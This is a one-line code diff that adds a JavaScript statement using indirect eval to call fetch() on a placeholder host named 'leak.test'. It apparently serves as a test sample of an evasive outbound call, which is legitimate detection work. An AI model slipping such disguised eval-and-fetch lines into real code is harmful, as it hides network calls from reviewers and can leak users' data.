@@ -1,0 +1,1 @@
+(0, eval)("fetch('https://js-eval-indirect.leak.test/')")
